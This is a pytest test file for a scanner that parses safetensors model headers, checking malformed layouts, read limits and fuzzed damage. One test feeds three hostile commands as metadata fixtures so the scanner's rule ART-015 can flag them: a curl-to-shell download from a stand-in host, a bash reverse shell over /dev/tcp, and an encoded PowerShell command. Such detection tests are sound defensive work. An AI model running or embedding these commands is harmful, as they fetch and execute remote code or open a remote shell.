import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sbom.model import Fact, FactName, Location
from scanner.artifacts import safetensors
from scanner.errors import LimitReached, Malformed, ScanError
from scanner.files.source import BytesSource
from scanner.limits import Budget, Limits
from scanner.model import Event, Evidence, Subject
from tests.forge import entry, u64
from tests.forge import safetensors as forge


def events_of(data: bytes, limits: Limits | None = None) -> tuple[list[Event], ScanError | None]:
    limits = limits or Limits()
    subject = Subject(BytesSource(data), Location("m.safetensors"), "m.safetensors", limits, Budget(limits))
    events: list[Event] = []
    try:
        for event in safetensors.inspect(subject):
            events.append(event)  # noqa: PERF402  (what came before the raise is the point)
    except ScanError as error:
        return events, error
    return events, None


PAIR = {"a": entry("F32", [2, 3], 0, 24), "b": entry("BF16", [4], 24, 32), "__metadata__": {"format": "pt"}}
GOOD = forge(PAIR, bytes(32))


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(GOOD, id="two tensors and metadata"),
        pytest.param(forge({}), id="no tensors"),
        pytest.param(forge(json.dumps(PAIR).encode(), bytes(32)), id="spaces between tokens"),
        pytest.param(forge(json.dumps(PAIR, indent=1).encode() + b"   ", bytes(32)), id="padded with spaces"),
        pytest.param(forge({"a": entry("F32", [], 0, 4)}, bytes(4)), id="scalar"),
        pytest.param(
            forge({"a": entry("F32", [0, 7], 0, 0), "b": entry("U8", [1], 0, 1)}, b"x"), id="empty tensor"
        ),
        pytest.param(
            forge({"a": entry("F8_E4M3", [3], 0, 3), "b": entry("F4", [4], 3, 5)}, bytes(5)),
            id="small dtypes",
        ),
        pytest.param(
            forge({"b": entry("U8", [1], 1, 2), "a": entry("U8", [1], 0, 1)}, bytes(2)), id="any order"
        ),
        pytest.param(forge({'ä\n"': entry("U8", [1], 0, 1)}, b"x"), id="names with escapes"),
        pytest.param(
            forge(b'{"a":{"data_offsets":[0,1],"shape":[1],"dtype":"U8"}}', b"x"),
            id="fields in another order",
        ),
    ],
)
def test_what_writers_write_is_no_evidence(data: bytes) -> None:
    events, error = events_of(data)
    assert error is None
    assert [event for event in events if isinstance(event, Evidence)] == []


def test_the_header_yields_its_facts() -> None:
    events, _ = events_of(GOOD)
    facts = {event.name: event.value for event in events if isinstance(event, Fact)}
    assert facts == {
        FactName.TENSORS: 2,
        FactName.PARAMETERS: 10,
        FactName.DTYPES: "BF16, F32",
        FactName.FRAMEWORK: "PyTorch",
        FactName.METADATA: "format=pt",
    }


ONE = entry("U8", [4], 0, 4)


@pytest.mark.parametrize(
    ("data", "law"),
    [
        pytest.param(b"", "too-short", id="empty file"),
        pytest.param(b"\x02\0\0\0", "too-short", id="half a length"),
        pytest.param(u64(9) + b"{}", "header-length", id="length passes the end"),
        pytest.param(u64(2**63) + b"{}", "header-length", id="length of eight exabytes"),
        pytest.param(u64(0) + b"{}", "header-length", id="length of nothing"),
        pytest.param(forge(b" {}"), "header-start", id="blank in front"),
        pytest.param(forge(b"[]"), "header-start", id="a list"),
        pytest.param(forge(b'{"\xff":1}'), "header-encoding", id="no UTF-8"),
        pytest.param(forge(b'{"a":{"dtype"'), "header-json", id="cut JSON"),
        pytest.param(forge(b'{"a" 1}'), "header-json", id="no colon"),
        pytest.param(forge(b'{"a":NaN}'), "header-json", id="no JSON number"),
        pytest.param(forge(b"{}x"), "header-padding", id="text behind the header"),
        pytest.param(forge(b"{}\0\0"), "header-padding", id="NULs behind the header"),
        pytest.param(forge(b'{"a":' + b"[" * 100_000 + b"]" * 100_000 + b"}"), "nesting", id="deep nesting"),
        pytest.param(
            forge(b'{"a":%s,"a":%s}' % ((json.dumps(ONE).encode(),) * 2), bytes(4)),
            "duplicate-name",
            id="name twice",
        ),
        pytest.param(
            forge(b'{"a":{"dtype":"U8","dtype":"I8","shape":[4],"data_offsets":[0,4]}}', bytes(4)),
            "duplicate-name",
            id="field twice",
        ),
        pytest.param(forge({"__metadata__": {"a": 1}}), "metadata", id="metadata of numbers"),
        pytest.param(forge({"__metadata__": {"a": {"b": "c"}}}), "metadata", id="nested metadata"),
        pytest.param(forge({"a": [1]}), "tensor", id="entry is a list"),
        pytest.param(
            forge({"a": {"dtype": 3, "shape": [], "data_offsets": [0, 0]}}), "dtype", id="dtype is a number"
        ),
        pytest.param(forge({"a": entry("F31", [1], 0, 4)}, bytes(4)), "dtype", id="unknown dtype"),
        pytest.param(forge({"a": {**ONE, "shape": [-4]}}, bytes(4)), "shape", id="negative length"),
        pytest.param(forge({"a": {**ONE, "shape": [4.0]}}, bytes(4)), "shape", id="fraction as a length"),
        pytest.param(forge({"a": {**ONE, "shape": [True]}}, bytes(4)), "shape", id="truth as a length"),
        pytest.param(
            forge({"a": {**ONE, "shape": [2**60, 2**60]}}, bytes(4)), "shape", id="product overflows"
        ),
        pytest.param(
            forge(b'{"a":{"dtype":"U8","shape":[04],"data_offsets":[0,4]}}', bytes(4)),
            "header-json",
            id="leading zero",
        ),
        pytest.param(forge({"a": {**ONE, "data_offsets": [0]}}, bytes(4)), "offsets", id="one offset"),
        pytest.param(
            forge({"a": {**ONE, "data_offsets": [4, 0]}}, bytes(4)), "offsets", id="end before begin"
        ),
        pytest.param(
            forge({"a": entry("F32", [2], 0, 4)}, bytes(4)), "tensor-size", id="shape and span disagree"
        ),
        pytest.param(forge({"a": entry("F4", [3], 0, 2)}, bytes(2)), "tensor-size", id="half a byte left"),
        pytest.param(forge({"a": entry("U8", [2], 2, 4)}, bytes(4)), "hole", id="hole in front"),
        pytest.param(forge({"a": ONE, "b": entry("U8", [2], 5, 7)}, bytes(7)), "hole", id="hole between"),
        pytest.param(forge({"a": ONE, "b": entry("U8", [4], 2, 6)}, bytes(6)), "overlap", id="overlap"),
        pytest.param(forge({"a": ONE, "b": ONE}, bytes(4)), "overlap", id="two names for one span"),
        pytest.param(forge({"a": ONE}, bytes(5)), "trailing-bytes", id="bytes behind the last tensor"),
        pytest.param(forge({"a": ONE}, bytes(3)), "truncated", id="tensor passes the end"),
    ],
)
def test_broken_headers_name_the_law_they_break(data: bytes, law: str) -> None:
    _, error = events_of(data)
    assert isinstance(error, Malformed)
    assert error.law == law


def test_facts_are_told_before_the_layout_breaks() -> None:
    events, error = events_of(GOOD + b"PK\x03\x04")
    assert isinstance(error, Malformed)
    assert Fact(FactName.TENSORS, 2) in events


def test_a_header_above_the_limit_is_not_read() -> None:
    _, error = events_of(GOOD, Limits(header_bytes=10))
    assert isinstance(error, LimitReached)
    assert error.limit == "header_bytes"


def test_only_the_header_is_read() -> None:
    class Watched(BytesSource):
        furthest = 0

        def read_at(self, offset: int, length: int) -> bytes:
            self.furthest = max(self.furthest, offset + length)
            return super().read_at(offset, length)

    data = forge({"a": entry("U8", [5000], 0, 5000)}, bytes(5000))
    source = Watched(data)
    safetensors.inspect(Subject(source, Location("m"), "m", Limits(), Budget(Limits())))
    list(safetensors.inspect(Subject(source, Location("m"), "m", Limits(), Budget(Limits()))))
    assert source.furthest <= len(data) - 5000


@pytest.mark.parametrize(
    "value",
    ["curl -s http://x.example/i | sh", "bash -i >& /dev/tcp/10.0.0.1/99 0>&1", "powershell -enc SQBFAFgA"],
)
def test_a_shell_fed_from_the_network_in_metadata_is_told(value: str) -> None:
    events, _ = events_of(forge({"__metadata__": {"note": value}}))
    assert [event.rule for event in events if isinstance(event, Evidence)] == ["ART-015"]


def test_what_the_model_s_specification_says_of_its_makers_is_kept() -> None:
    said = {"modelspec.author": "Ada", "modelspec.license": "CreativeML", "modelspec.title": "x"}
    events, _ = events_of(forge({"__metadata__": said}))
    assert Fact(FactName.AUTHOR, "Ada") in events
    assert Fact(FactName.LICENCE, "CreativeML") in events


@pytest.mark.parametrize("value", ["see https://example.org/model", "train.sh | tee log", "curl is a tool"])
def test_links_in_metadata_are_no_evidence(value: str) -> None:
    events, _ = events_of(forge({"__metadata__": {"note": value}}))
    assert [event for event in events if isinstance(event, Evidence)] == []


@settings(max_examples=300, deadline=None)
@given(cut=st.integers(0, len(GOOD)), flip=st.integers(0, len(GOOD) * 8 - 1), tail=st.binary(max_size=3))
def test_any_damage_ends_in_events_or_a_named_law(cut: int, flip: int, tail: bytes) -> None:
    damaged = bytearray(GOOD)
    damaged[flip // 8] ^= 1 << flip % 8
    for data in (GOOD[:cut], bytes(damaged), GOOD[:cut] + tail):
        _, error = events_of(data)
        assert error is None or isinstance(error, Malformed | LimitReached)
